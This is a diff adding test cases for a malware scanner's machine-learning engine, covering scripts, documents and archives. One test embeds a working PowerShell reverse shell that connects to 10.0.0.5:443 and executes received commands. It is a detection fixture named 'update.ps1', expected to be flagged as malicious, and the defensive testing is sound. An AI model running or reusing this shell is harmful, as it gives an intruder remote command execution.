@@ -1,0 +1,48 @@
+/**
+ * The `ml` engine runs for partial-coverage types (scripts, text, documents, archives) with the
+ * shipped script model, and names itself in enginesUsed.
+ */
+import { analyze, type AnalyzeDeps } from '../../../../src/scan/analyze';
+import { memoryFeedLookup, parsePlainHashList } from '../../../../src/scan/engines/feeds';
+import { engine as ml } from '../../../../src/scan/engines/ml';
+import { REGISTRY } from '../../../../src/scan/registry';
+import { subjectOf, ctx } from '../support/subject';
+
+const deps: AnalyzeDeps = { clamd: { host: '127.0.0.1', port: 1 }, feedLookup: memoryFeedLookup(parsePlainHashList('', 'test')) };
+
+describe('ml on partial coverage', () => {
+  it('is registered for every script type, text, documents and archives', () => {
+    const row = REGISTRY.find((r) => r.engine === 'ml');
+    expect(row?.fileTypes).toEqual(expect.arrayContaining(['powershell', 'shell', 'python', 'javascript', 'text', 'pdf', 'office_ooxml', 'office_ole', 'zip', 'tar']));
+  });
+
+  it('scores a script and reports a calibrated probability', async () => {
+    const out = await ml.scan(await subjectOf(Buffer.from('Get-ChildItem -Path C:\\Logs -Filter *.log | Remove-Item -WhatIf\n'), 'clean.ps1'), ctx());
+    const report = (out.report as { ml: { probability: number; threshold: number } }).ml;
+    expect(report.probability).toBeGreaterThanOrEqual(0);
+    expect(report.probability).toBeLessThanOrEqual(1);
+    expect(report.threshold).toBeGreaterThan(0);
+  });
+
+  it('flags an offensive PowerShell script and names ml in enginesUsed', async () => {
+    const script = [
+      '$client = New-Object System.Net.Sockets.TCPClient("10.0.0.5",443)',
+      '$stream = $client.GetStream(); [byte[]]$bytes = 0..65535|%{0}',
+      'while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){',
+      '  $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i)',
+      '  $sendback = (iex $data 2>&1 | Out-String ); $sendback2 = $sendback + "PS " + (pwd).Path + "> "',
+      '  $sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2); $stream.Write($sendbyte,0,$sendbyte.Length); $stream.Flush()}',
+    ].join('\n');
+    const r = await analyze({ content: Buffer.from(script), name: 'update.ps1', scanType: 'file' }, deps);
+    expect(r.safetyScore.enginesUsed).toContain('ml');
+    expect(r.engines.ml.findings.map((f) => f.id)).toContain('ml.text.malicious');
+    expect(r.safetyScore.threatLevel).toBe('Malicious');
+  });
+
+  it('a document gets the model too (on its printable strings)', async () => {
+    const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
+    const r = await analyze({ content: pdf, name: 'a.pdf', scanType: 'file' }, deps);
+    expect(r.safetyScore.enginesUsed).toContain('ml');
+    expect((r.reports.ml as { input: string }).input).toBe('printable strings');
+  });
+});
